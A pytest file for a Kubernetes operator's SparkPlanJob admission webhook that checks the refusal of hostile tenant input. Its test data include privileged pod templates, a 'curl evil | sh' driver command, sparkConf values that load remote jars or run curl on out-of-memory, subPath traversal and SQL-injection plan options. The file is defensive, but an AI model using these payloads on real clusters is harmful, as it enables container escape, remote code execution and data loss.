"""What a tenant who may create SparkPlanJobs reaches, and what admission refuses (docs/operator.md, "What a
tenant reaches"): pod privileges through podTemplate, image and sparkConf; another job's children through its
name; another job root through subPath; later failures through names, keys and numbers; statements through a
plan option. Each case is judged by the webhook's review, the CRD (as the API emulator applies it) where the CRD
has the rule, and the pods the launcher would build.
"""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
import yaml

from planengine_operator import builders, podpolicy, validation, webhook
from planengine_operator.config import Admission, OperatorConfig
from planengine_operator.launchers.local import LocalLauncher
from tests.operator.kapi import schema
from tests.operator.pod_privileges import privileged_settings

REPO = Path(__file__).resolve().parents[2]
CRD = yaml.safe_load((REPO / "crds/sparkplanjobs.planengine.io.yaml").read_text())
OPENAPI = CRD["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
SQL = "INSERT INTO out SELECT * FROM clicks"
STORAGE = {"pvc": {"claimName": "data", "subPath": "jobs/clicks"}}
DATA = "/srv/planengine-data"


def config(**admission: Any) -> OperatorConfig:
    return OperatorConfig.model_validate({"engines": {"0.1": {"image": "engine:0.1"}}, "admission": admission})


def review(spec: dict[str, Any], cfg: OperatorConfig | None = None) -> list[validation.Problem]:
    body = {"metadata": {"name": "j", "namespace": "ns"}, "spec": {"plan": {"sql": SQL}, "storage": STORAGE, **spec}}
    return webhook.review("CREATE", "ns", "j", body, None, cfg or config(), lambda ns, n, s: builders.
                          job_root_for_pod(s, ns, n))


def crd_errors(spec: dict[str, Any]) -> list[str]:
    return [e.field for e in schema.validate({"spec": {"plan": {"sql": SQL}, **spec}}, OPENAPI)]


def built_pods(spec: dict[str, Any], cfg: OperatorConfig) -> list[dict[str, Any]]:
    """Driver, executor template and tool pod as the Kubernetes launcher builds them (its admitted spec)."""
    admitted = podpolicy.admitted_spec({"plan": {"sql": SQL}, "storage": STORAGE, **spec}, cfg.admission)
    image = admitted.get("image") or "engine:0.1"
    driver = builders.build_driver_pod(job_name="j", namespace="ns", spec=admitted, image=image, run_id="r1",
                                       argv=["run"])
    tool = builders.build_tool_pod(job_name="j", key="check", spec=admitted, image=image, argv=["check"])
    return [driver, builders.build_executor_pod_template(admitted), tool]


# ------------------------------------------------------------------------------------------ podTemplate
HOSTILE = {
    "privileged": {"spec": {"containers": [{"name": "driver", "securityContext": {"privileged": True}}]}},
    "root": {"spec": {"securityContext": {"runAsUser": 0}}},
    "root container": {"spec": {"containers": [{"name": "driver", "securityContext": {"runAsNonRoot": False}}]}},
    "escalation": {"spec": {"containers": [{"name": "driver",
                                            "securityContext": {"allowPrivilegeEscalation": True}}]}},
    "capabilities": {"spec": {"containers": [{"name": "driver",
                                              "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]}},
    "hostNetwork": {"spec": {"hostNetwork": True}},
    "hostPID": {"spec": {"hostPID": True}},
    "hostIPC": {"spec": {"hostIPC": True}},
    "hostPath /": {"spec": {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}},
    "hostPath escaping the prefix": {"spec": {"volumes": [{"name": "x", "hostPath": {"path": f"{DATA}/../etc"}}]}},
    "hostPath next to the prefix": {"spec": {"volumes": [{"name": "x", "hostPath": {"path": f"{DATA}-secrets"}}]}},
    "another ServiceAccount": {"spec": {"serviceAccountName": "cluster-admin-sa"}},
    "API token where there was none": {"spec": {"automountServiceAccountToken": True}},
    "nfs volume": {"spec": {"volumes": [{"name": "n", "nfs": {"server": "10.0.0.1", "path": "/"}}]}},
    "init container": {"spec": {"initContainers": [{"name": "i", "image": "busybox"}]}},
    "sidecar": {"spec": {"containers": [{"name": "miner", "image": "evil"}]}},
    "driver image": {"spec": {"containers": [{"name": "driver", "image": "evil"}]}},
    "driver command": {"spec": {"containers": [{"name": "driver", "command": ["sh", "-c", "curl evil | sh"]}]}},
    "job root replaced": {"spec": {"volumes": [{"name": "job-root", "emptyDir": {}}]}},
    "operator variable": {"spec": {"containers": [{"name": "driver", "env": [
        {"name": "PLANENGINE_TAKE_OVER_RUN_LOCK", "value": "1"}]}]}},
    "operator label": {"metadata": {"labels": {"planengine.io/role": "active"}}},
    "node pinned": {"spec": {"nodeName": "control-plane-0"}},
    "seccomp off": {"spec": {"securityContext": {"seccompProfile": {"type": "Unconfined"}}}},
    "AppArmor off": {"metadata": {"annotations": {"container.apparmor.security.beta.kubernetes.io/driver":
                                                  "unconfined"}}},
    "projected API token": {"spec": {"volumes": [{"name": "t", "projected": {"sources": [
        {"serviceAccountToken": {"path": "token", "audience": "evil"}}]}}]}},
    "bidirectional mount": {"spec": {"containers": [{"name": "driver", "volumeMounts": [
        {"name": "scratch", "mountPath": "/x", "mountPropagation": "Bidirectional"}]}],
        "volumes": [{"name": "scratch", "emptyDir": {}}]}},
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_a_hostile_pod_template_is_refused_with_its_field_path_and_never_built(case: str) -> None:
    template = HOSTILE[case]
    cfg = config(allowedHostPathPrefixes=[DATA])
    found = review({"podTemplate": template}, cfg)
    assert found and all(p.field.startswith("spec.podTemplate.") for p in found), found
    assert {p.reason for p in found} <= {podpolicy.PRIVILEGED, podpolicy.NOT_ALLOWED}
    assert "remove it" in found[0].message
    for pod in built_pods({"podTemplate": template}, cfg):
        assert privileged_settings(pod, [DATA]) == []
    raw = builders.build_driver_pod(job_name="j", namespace="ns", spec={"podTemplate": template, "storage": STORAGE},
                                    image="i", run_id="r1", argv=["run"])
    if case not in ("driver image", "driver command", "job root replaced", "operator variable", "operator label"):
        assert privileged_settings(raw, [DATA]), "the case must be privileged when merged as written"


def test_privileged_settings_are_named_as_such() -> None:
    reasons = {p.field: p.reason for p in review({"podTemplate": {"spec": {
        "hostNetwork": True, "schedulerName": "mine",
        "containers": [{"name": "driver", "securityContext": {"privileged": True}}]}}})}
    assert reasons == {"spec.podTemplate.spec.hostNetwork": podpolicy.PRIVILEGED,
                       "spec.podTemplate.spec.schedulerName": podpolicy.NOT_ALLOWED,
                       "spec.podTemplate.spec.containers[0].securityContext.privileged": podpolicy.PRIVILEGED}


SAFE = {"metadata": {"labels": {"team": "a"}, "annotations": {"cost-center": "42"}},
        "spec": {"nodeSelector": {"pool": "spot"}, "tolerations": [{"key": "spot", "operator": "Exists"}],
                 "priorityClassName": "batch", "imagePullSecrets": [{"name": "registry"}],
                 "securityContext": {"fsGroup": 10001, "seccompProfile": {"type": "RuntimeDefault"}},
                 "volumes": [{"name": "data", "hostPath": {"path": f"{DATA}/team-a", "type": "Directory"}},
                             {"name": "conf", "configMap": {"name": "tables"}},
                             {"name": "creds", "secret": {"secretName": "db"}}],
                 "containers": [{"name": "driver", "env": [{"name": "TZ", "value": "UTC"}],
                                 "volumeMounts": [{"name": "data", "mountPath": "/data"}],
                                 "resources": {"limits": {"cpu": "2"}},
                                 "securityContext": {"readOnlyRootFilesystem": True,
                                                     "capabilities": {"drop": ["ALL"]}}}]}}


def test_the_allowed_fields_merge_into_every_pod_of_the_job() -> None:
    cfg = config(allowedHostPathPrefixes=[DATA])
    assert review({"podTemplate": SAFE}, cfg) == []
    driver, executor, tool = built_pods({"podTemplate": SAFE}, cfg)
    for pod in (driver, executor, tool):
        assert pod["metadata"]["labels"]["team"] == "a" and pod["spec"]["nodeSelector"] == {"pool": "spot"}
        assert {"name": "data", "mountPath": "/data"} in pod["spec"]["containers"][0]["volumeMounts"]
        assert privileged_settings(pod, [DATA]) == []
    assert driver["spec"]["serviceAccountName"] == builders.DRIVER_SERVICE_ACCOUNT


def test_a_host_path_needs_the_operators_prefix() -> None:
    assert [p.reason for p in review({"podTemplate": SAFE})] == [podpolicy.PRIVILEGED]
    assert "admission.allowedHostPathPrefixes" in review({"podTemplate": SAFE})[0].message


def test_an_administrator_may_allow_privileged_pod_templates() -> None:
    cfg = config(allowPrivilegedPodTemplate=True)
    template = HOSTILE["privileged"]
    assert review({"podTemplate": template}, cfg) == []
    driver = built_pods({"podTemplate": template}, cfg)[0]
    assert driver["spec"]["containers"][0]["securityContext"]["privileged"] is True


def test_image_override_is_the_operators_choice() -> None:
    assert [(p.field, p.reason) for p in review({"image": "evil:latest"})] == [("spec.image", podpolicy.IMAGE)]
    assert {p["spec"]["containers"][0].get("image") for p in built_pods({"image": "evil:latest"}, config())} \
        <= {"engine:0.1", None}
    cfg = config(allowImageOverride=True)
    assert review({"image": "mine:1"}, cfg) == []
    assert built_pods({"image": "mine:1"}, cfg)[0]["spec"]["containers"][0]["image"] == "mine:1"


@pytest.mark.parametrize("key,value", [
    ("spark.driver.extraJavaOptions", "-javaagent:/data/agent.jar"),
    ("spark.executor.extraJavaOptions", "-XX:OnOutOfMemoryError=curl evil"),
    ("spark.driver.extraClassPath", "/data/evil.jar"),
    ("spark.executor.extraLibraryPath", "/data"),
    ("spark.jars", "https://evil/x.jar"),
    ("spark.jars.packages", "evil:evil:1"),
    ("spark.plugins", "com.evil.Plugin"),
    ("spark.executorEnv.JAVA_TOOL_OPTIONS", "-javaagent:/data/a.jar"),
    ("spark.pyspark.python", "/data/evil"),
    ("spark.kubernetes.executor.podTemplateFile", "/data/privileged.yaml"),
    ("spark.kubernetes.executor.volumes.hostPath.root.options.path", "/"),
    ("spark.kubernetes.container.image", "evil"),
    ("spark.kubernetes.authenticate.driver.serviceAccountName", "admin"),
    ("spark.master", "k8s://https://evil.example:443"),
])
def test_spark_conf_that_loads_code_or_shapes_pods_is_refused_and_never_passed(key: str, value: str) -> None:
    found = review({"sparkConf": {key: value, "spark.sql.session.timeZone": "UTC"}})
    assert [p.field for p in found] == [f"spec.sparkConf[{key}]"]
    driver = built_pods({"sparkConf": {key: value}, "executor": {"instances": 1}}, config())[0]
    assert f"{key}={value}" not in driver["spec"]["containers"][0]["args"]
    if key.startswith("spark.kubernetes.") or key == "spark.master":
        assert review({"sparkConf": {key: value}}, config(allowPrivilegedPodTemplate=True)) == []
    else:
        assert review({"sparkConf": {key: value}}, config(allowJvmOptions=True)) == []


def test_ordinary_spark_conf_passes() -> None:
    conf = {"spark.sql.shuffle.partitions": "8", "spark.executor.memoryOverhead": "1g",
            "spark.kubernetes.executor.request.cores": "500m", "spark.sql.session.timeZone": "UTC"}
    assert review({"sparkConf": conf}) == []


# ------------------------------------------------------------------------------------------ names
def _children(job_name: str) -> dict[str, str]:
    spec = {"storage": STORAGE}
    driver = builders.build_driver_pod(job_name=job_name, namespace="ns", spec=spec, image="i", run_id="r1",
                                       argv=["run"])
    return {
        "plan": builders.build_plan_configmap(job_name, "{}", "p")["metadata"]["name"],
        "executor": builders.build_executor_configmap(job_name, spec)["metadata"]["name"],
        "service": builders.build_service(job_name)["metadata"]["name"],
        "run service": builders.build_run_service(job_name, "r1")["metadata"]["name"],
        "driver": driver["metadata"]["name"],
        "label": driver["metadata"]["labels"][builders.LABEL_JOB],
        "tool": builders.tool_pod_name(job_name, "check"),
    }


def test_jobs_whose_names_map_alike_get_distinct_children() -> None:
    dotted, dashed = _children("etl.v2"), _children("etl-v2")
    assert all(dotted[kind] != dashed[kind] for kind in dotted), (dotted, dashed)
    assert _children("ETL-v2")["label"] not in (dotted["label"], dashed["label"])


def test_a_name_that_is_already_a_dns_label_keeps_its_childrens_names() -> None:
    """Jobs that existed before the hash suffix keep their ConfigMaps, Services, pods and labels."""
    assert _children("etl-v2") == {"plan": "etl-v2-plan", "executor": "etl-v2-executor", "service": "etl-v2-driver",
                                   "run service": "etl-v2-r1", "driver": "etl-v2-r1", "label": "etl-v2",
                                   "tool": "etl-v2-check"}


def test_mapped_names_are_stable_and_fit_kubernetes() -> None:
    long_name = "a." * 100 + "z"
    assert builders.job_key(long_name) == builders.job_key(long_name)
    assert len(builders.job_key(long_name)) <= 63 and builders.job_key("...").startswith("j-")
    for name in ("etl.v2", long_name, "x" * 253):
        for kind, child in _children(name).items():
            limit = 253 if kind in ("plan", "executor") else 63  # ConfigMaps: DNS subdomains; the rest: labels
            assert len(child) <= limit and builders._DNS_1123_LABEL.fullmatch(child), child


# ------------------------------------------------------------------------------------------ job roots
@pytest.mark.parametrize("spelling", ["clicks", "./clicks", "clicks/", "./clicks/"])
def test_one_directory_has_one_lease_however_the_sub_path_is_spelled(spelling: str) -> None:
    def lease(sub: str) -> str:
        return builders.lease_name(builders.job_root_for_pod(
            {"storage": {"pvc": {"claimName": "data", "subPath": sub}}}, "ns", "j"))

    assert lease(spelling) == lease("clicks")
    assert review({"storage": {"pvc": {"claimName": "data", "subPath": spelling}}}) == []


def test_the_local_launcher_normalises_the_root_too(tmp_path: Path) -> None:
    launcher = LocalLauncher(OperatorConfig.model_validate({"launcher": "local", "jobRootBase": str(tmp_path)}))
    roots = {launcher.job_root("ns", "j", {"storage": {"pvc": {"claimName": "x", "subPath": s}}})
             for s in ("clicks", "./clicks", "clicks/")}
    assert roots == {f"{tmp_path}/ns/j/clicks"}
    assert len({builders.lease_name(r) for r in roots}) == 1


def test_a_job_started_under_the_old_spelling_is_not_seen_as_moved() -> None:
    """Before normalising, subPath ./clicks was kept in status.jobRoot as written."""
    from planengine_operator.models import JobSpec, JobStatus

    spec = JobSpec.model_validate({"plan": {"sql": SQL}, "storage": {"pvc": {"claimName": "data",
                                                                             "subPath": "./clicks"}}})
    status = JobStatus(jobRoot=f"{builders.JOB_ROOTS}/data/./clicks", phase="Running")
    root = builders.job_root_for_pod(spec.model_dump(exclude_none=True), "ns", "j")
    assert validation.problems(spec, status, config(), root) == []


@pytest.mark.parametrize("sub_path", ["../../team-b/etl", "/etc", "a//b", "a/../../b", "..", "/"])
def test_a_sub_path_that_leaves_the_volume_or_respells_a_directory_is_refused(sub_path: str,
                                                                             tmp_path: Path) -> None:
    storage = {"pvc": {"claimName": "data", "subPath": sub_path}}
    found = review({"storage": storage})
    assert "spec.storage.pvc.subPath" in [p.field for p in found], found
    assert "spec.storage.pvc.subPath" in crd_errors({"storage": storage})
    launcher = LocalLauncher(OperatorConfig.model_validate({"launcher": "local", "jobRootBase": str(tmp_path)}))
    root = Path(launcher.job_root("team-a", "etl", {"storage": storage})).resolve()
    assert root.is_relative_to((tmp_path / "team-a" / "etl").resolve()), root
    assert builders.job_root_for_pod({"storage": storage}, "ns", "j").startswith(f"{builders.JOB_ROOTS}/-/")


# ------------------------------------------------------------------------------------------ fields
FIELDS = {
    "claim name": ({"storage": {"pvc": {"claimName": "Data_1"}}}, "spec.storage.pvc.claimName"),
    "ConfigMap name": ({"plan": {"configMapRef": {"name": "a/b"}}}, "spec.plan.configMapRef.name"),
    "ConfigMap key": ({"plan": {"configMapRef": {"name": "a", "key": "x y"}}}, "spec.plan.configMapRef.key"),
    "catalog name": ({"catalog": {"configMapRef": {"name": "UPPER"}}}, "spec.catalog.configMapRef.name"),
    "compiled plan key": ({"plan": {"compiledPlanRef": {"name": "p", "key": "../p"}}},
                          "spec.plan.compiledPlanRef.key"),
    "sparkConf flag": ({"sparkConf": {"--master": "local"}}, "spec.sparkConf"),
    "sparkConf newline": ({"sparkConf": {"spark.a": "1\n--conf x"}}, "spec.sparkConf"),
    "sparkConf key newline": ({"sparkConf": {"spark.a\nb": "1"}}, "spec.sparkConf"),
    "negative executors": ({"executor": {"instances": -1}}, "spec.executor.instances"),
    "2^63 executors": ({"executor": {"instances": 2 ** 63}}, "spec.executor.instances"),
    "2^63 cores": ({"executor": {"cores": 2 ** 63 - 1}}, "spec.executor.cores"),
    "no memory": ({"executor": {"memory": "0"}}, "spec.executor.memory"),
    "no driver memory": ({"driver": {"memory": "0Gi"}}, "spec.driver.memory"),
    "quote in a plan option": ({"planOptions": {"table.plan.x' = 'y'; DROP TABLE t; --": "1"}}, "spec.planOptions"),
}


@pytest.mark.parametrize("case", list(FIELDS))
def test_names_keys_and_numbers_that_fail_later_are_refused_with_the_field_path(case: str) -> None:
    spec, field = FIELDS[case]
    full = {"storage": STORAGE, **spec}
    if "plan" in spec:
        full["plan"] = spec["plan"]
    body = {"metadata": {"name": "j", "namespace": "ns"}, "spec": full}
    if "plan" not in full:
        full["plan"] = {"sql": SQL}
    found = webhook.review("CREATE", "ns", "j", body, None, config(), lambda ns, n, s: "/r")
    assert any(p.field.startswith(field) for p in found), found
    assert any(e.startswith(field) for e in crd_errors(full)), crd_errors(full)


def test_the_crd_and_the_operator_share_the_field_patterns() -> None:
    spec = OPENAPI["properties"]["spec"]["properties"]
    assert spec["storage"]["properties"]["pvc"]["properties"]["claimName"]["pattern"] == validation.DNS_SUBDOMAIN
    for ref in (spec["plan"]["properties"]["configMapRef"], spec["catalog"]["properties"]["configMapRef"],
                spec["plan"]["properties"]["compiledPlanRef"]):
        assert ref["properties"]["name"]["pattern"] == validation.DNS_SUBDOMAIN
        assert ref["properties"]["key"]["pattern"] == validation.CONFIGMAP_KEY
    for section in ("driver", "executor"):
        assert spec[section]["properties"]["memory"]["pattern"] == validation.QUANTITY
    for path, (low, high) in validation.BOUNDS.items():
        section, name = path.split(".")
        field = spec[section]["properties"][name]
        assert (field["minimum"], field["maximum"]) == (low, high)
    assert spec["sparkConf"]["additionalProperties"]["pattern"] == validation.NO_LINE_BREAK
    chart = yaml.safe_load((REPO / "charts/planengine-operator/crds/sparkplanjobs.planengine.io.yaml").read_text())
    assert chart == CRD


# ------------------------------------------------------------------------------------------ compile script
@pytest.mark.parametrize("key,value", [
    ("table.plan.x", "y'; DROP TABLE t; SET 'a' = 'b"),
    ("table.plan.x' = 'y'; DROP TABLE t; --", "1"),
    ("table.plan.x", "\\"),
    ("table.plan.x\\", "'"),
    ("table.plan.x", "a\\'; INSERT INTO s SELECT 1; --"),
    ("table.plan.x", "multi\nline; INSERT INTO s SELECT 2;"),
])
def test_a_quote_in_a_plan_option_cannot_add_a_statement(key: str, value: str) -> None:
    from planengine.sql.api import parse_script

    script = builders.build_compile_script(SQL, "CREATE TABLE clicks (a INT)", {key: value})
    statements = parse_script(script)
    assert [type(s).__name__ for s in statements] == ["CreateTable", "SetOption", "Insert"], script
    assert (statements[1].key, statements[1].value) == (key, value)


def test_the_fields_a_policy_judges_are_the_ones_the_builders_read() -> None:
    """admitted_spec leaves everything else alone (the builders read the rest of the spec as before)."""
    spec = {"plan": {"sql": SQL}, "storage": STORAGE, "driver": {"cores": 2}, "sparkConf": {"spark.a": "1"}}
    assert podpolicy.admitted_spec(copy.deepcopy(spec), Admission()) == spec
